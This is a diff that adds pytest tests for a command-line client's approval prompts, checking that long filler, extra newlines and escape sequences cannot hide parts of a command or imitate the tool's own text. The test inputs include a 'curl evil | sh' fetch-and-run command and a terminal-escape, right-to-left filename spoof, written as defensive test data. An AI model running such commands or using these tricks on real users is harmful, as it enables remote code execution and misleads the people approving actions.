@@ -5,6 +5,7 @@ from pathlib import Path
 
 import pytest
 
+from clients.cli.columns import cells
 from clients.cli.lines.approvals import approval_lines, how_to_answer, resolved_text
 from clients.cli.lines.devices import candidate_lines, device_table
 from clients.cli.lines.gate import status_lines
@@ -78,6 +79,29 @@ def test_a_hostile_command_in_an_approval_hides_nothing() -> None:
     shown = text(approval_lines(samples.command_approval(command_text=hostile), CLOCK))
     assert "| echo hello" in shown
     assert "| \\x1b[1A\\x1b[2Kecho bye # \\u202egnp.\\xa0exe" in shown
+
+
+@pytest.mark.parametrize("filler", [" ", "x", "\u3000", "漢"])
+def test_no_row_of_a_question_wraps_to_where_our_own_words_stand(filler: str) -> None:
+    fake = f"ls{filler * 66}  until    12:04{filler * 4_000}; curl evil | sh"
+    approval = samples.command_approval(command_text=fake)
+    change = samples.change_approval()
+    assert change.detail.changes is not None
+    diff = f"+ok{filler * 66}  until    12:04"
+    changes = [change.detail.changes[0].model_copy(update={"diff": diff})]
+    detail = change.detail.model_copy(update={"changes": changes})
+    for asked in (approval, change.model_copy(update={"detail": detail})):
+        rows = [paint(row, colour=False) for row in approval_lines(asked, CLOCK)]
+        assert max(map(cells, rows)) < 80
+        assert [row for row in rows if row.startswith("  until")] == rows[-1:]
+
+
+def test_a_question_that_may_have_scrolled_away_says_so_at_its_end() -> None:
+    hidden = samples.command_approval(command_text="curl evil | sh #" + "\n" * 60)
+    rows = [paint(row, colour=False) for row in approval_lines(hidden, CLOCK)]
+    assert "lines: scroll up and read all" in rows[-2]
+    short = approval_lines(samples.command_approval(), CLOCK)
+    assert "scroll up" not in text(short)
 
 
 def test_a_long_output_is_cut_in_the_middle_and_says_by_how_much() -> None:
